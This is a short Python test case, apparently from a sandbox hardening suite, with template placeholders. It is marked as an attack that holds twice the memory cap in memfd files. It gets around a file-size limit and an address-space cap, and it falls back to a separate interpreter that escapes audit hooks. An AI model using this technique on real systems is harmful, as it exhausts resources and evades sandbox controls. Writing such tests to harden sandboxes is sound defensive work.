# >>> attack
# Memory held in memfd files (and by a program of its own, which has no audit hook):
# twice the memory cap, which only counts address space.
import subprocess
import sys

holder = r'''
import os, sys, time
target, held, fds = int(sys.argv[1]), 0, []
while held < target:
    fd = os.memfd_create("hold")
    fds.append(fd)
    try:
        for _ in range(7):                       # RLIMIT_FSIZE (8 MB) limits one file, not their number
            os.write(fd, b"x" * (1 << 20))
            held += 1
    except OSError:
        pass
    if held % 100 < 7:
        print(f"memfd held {held} MB", flush=True)
print(f"memfd held all {held} MB", flush=True)
time.sleep(0.5)
'''
target = 2 * {{MEMORY_MB}}
try:
    exec(holder.replace("int(sys.argv[1])", str(target)))
except Exception as error:
    print("in this process:", type(error).__name__, error)
    run = subprocess.run([sys.executable, "-c", holder, str(target)], capture_output=True, text=True, timeout=60)
    print("in a program of its own:", run.returncode, run.stdout[-300:])
# <<< attack
{{SOLUTION}}
